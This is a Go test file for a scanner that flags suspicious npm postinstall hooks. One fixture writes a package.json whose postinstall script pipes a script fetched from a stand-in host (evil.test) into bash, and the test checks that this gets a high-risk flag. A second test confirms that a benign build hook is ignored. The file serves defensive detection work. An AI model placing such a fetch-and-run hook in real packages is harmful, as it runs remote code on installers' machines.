package detect

import (
	"testing"

	"github.com/seanhalberthal/shaihulud-scan/internal/hashutil"
)

func TestPostinstallHooksFlagsSuspiciousCommand(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "package.json", `{"name":"pkg","scripts":{"postinstall":"curl http://evil.test/x.sh | bash"}}`)

	findings := PostinstallHooks(dir, false, hashutil.NewCache())
	if len(findings) != 1 || findings[0].Category != "postinstall_hook" {
		t.Fatalf("findings = %+v, want one postinstall_hook", findings)
	}
	if findings[0].RiskLevel != "High" {
		t.Errorf("RiskLevel = %v, want High", findings[0].RiskLevel)
	}
}

func TestPostinstallHooksIgnoresBenignScript(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "package.json", `{"name":"pkg","scripts":{"postinstall":"node build.js"}}`)

	if findings := PostinstallHooks(dir, false, hashutil.NewCache()); len(findings) != 0 {
		t.Fatalf("findings = %+v, want none", findings)
	}
}
